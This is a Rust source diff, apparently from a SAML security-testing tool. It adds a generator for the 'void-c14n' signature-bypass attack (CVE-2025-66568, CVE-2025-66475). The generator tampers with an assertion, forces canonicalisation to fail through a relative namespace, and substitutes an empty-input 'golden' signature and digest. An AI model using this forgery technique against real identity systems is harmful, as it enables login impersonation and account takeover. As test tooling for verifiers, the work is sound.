@@ -7,7 +7,7 @@
 //! comment node or a second `ds:SignedInfo`.
 
 use super::stages::StageContext;
-use super::{HmacAlg, HmacKeyEncoding, SignatureErrorKind};
+use super::{HmacAlg, HmacKeyEncoding, SignatureErrorKind, VoidC14nOn};
 use crate::saml::mint::MintError;
 use crate::saml::ns;
 use crate::saml::response::{signature_template, write_assertion};
@@ -288,4 +288,82 @@ pub(crate) fn signature_error(
         }
     };
     Ok(())
+}
+
+// ---- issue 13: docs/advisories.md S7 ----
+
+/// The relative namespace declaration `void-c14n` adds: the prefix is never used, and the URI
+/// `1` (no scheme) is the one the simplesamlphp/saml2 CVE-2025-66475 regression fixture puts on
+/// its Response. Canonical XML 1.0 §2.3 makes such a document a canonicalisation failure.
+pub(crate) const RELATIVE_NAMESPACE: &str = r#" xmlns:void="1""#;
+
+/// base64(SHA-256("")): the digest of a canonical form that came out empty.
+pub(crate) const EMPTY_SHA256_B64: &str = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
+
+/// `void-c14n` (CVE-2025-66568, CVE-2025-66475), the assertion's part: the NameID is tampered,
+/// KeyInfo names the IdP certificate, `SignatureValue` is the IdP key's RSA-SHA256 signature
+/// over the empty octet string (the one "golden" signature such a verifier accepts for any
+/// SignedInfo whose canonicalisation fails), and `DigestValue` is SHA-256("") unless the
+/// relative namespace sits on the Signature only, where the assertion itself still
+/// canonicalises and the real digest of the tampered assertion stays. `on = response` declares
+/// the namespace in the document stage ([`super::document::relative_namespace_on_response`]).
+pub(crate) fn void_c14n(
+    assertion: &mut String,
+    cx: &StageContext<'_>,
+    on: VoidC14nOn,
+) -> Result<(), MintError> {
+    use base64::Engine;
+    let model = tampered_model(cx)?;
+    let id = model.id.clone().unwrap_or_default();
+    let tpl = signature_template(&id, Some(&cx.input.keys.idp.cert_b64), false);
+    // Signed by the attacker key only to get the real digest of the tampered assertion; the
+    // value is replaced below.
+    let signed = cx.signer.sign_enveloped(
+        write_assertion(&model, Some(&tpl)),
+        &cx.input.keys.attacker.signer,
+        false,
+    )?;
+    let golden = base64::engine::general_purpose::STANDARD.encode(
+        cx.input
+            .keys
+            .idp
+            .signer
+            .sign_sha256(b"")
+            .map_err(XmlSecError::from)?,
+    );
+    let value = element_text(&signed, "<ds:SignatureValue>", "</ds:SignatureValue>")
+        .unwrap_or_default()
+        .to_string();
+    let mut out = signed.replacen(
+        &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"),
+        &format!("<ds:SignatureValue>{golden}</ds:SignatureValue>"),
+        1,
+    );
+    let void_digest = |xml: &str| {
+        let digest = element_text(xml, "<ds:DigestValue>", "</ds:DigestValue>").unwrap_or_default();
+        xml.replacen(
+            &format!("<ds:DigestValue>{digest}</ds:DigestValue>"),
+            &format!("<ds:DigestValue>{EMPTY_SHA256_B64}</ds:DigestValue>"),
+            1,
+        )
+    };
+    out = match on {
+        VoidC14nOn::Response => void_digest(&out),
+        VoidC14nOn::Assertion => declare_after(&void_digest(&out), "<saml:Assertion"),
+        VoidC14nOn::Signature => declare_after(&out, "<ds:Signature"),
+    };
+    *assertion = out;
+    Ok(())
+}
+
+/// `xml` with [`RELATIVE_NAMESPACE`] declared right after the first `tag` (an element name
+/// with its `<`), unchanged when there is none.
+pub(crate) fn declare_after(xml: &str, tag: &str) -> String {
+    match xml.find(tag) {
+        Some(pos) => {
+            let at = pos + tag.len();
+            format!("{}{RELATIVE_NAMESPACE}{}", &xml[..at], &xml[at..])
+        }
+        None => xml.to_string(),
+    }
 }
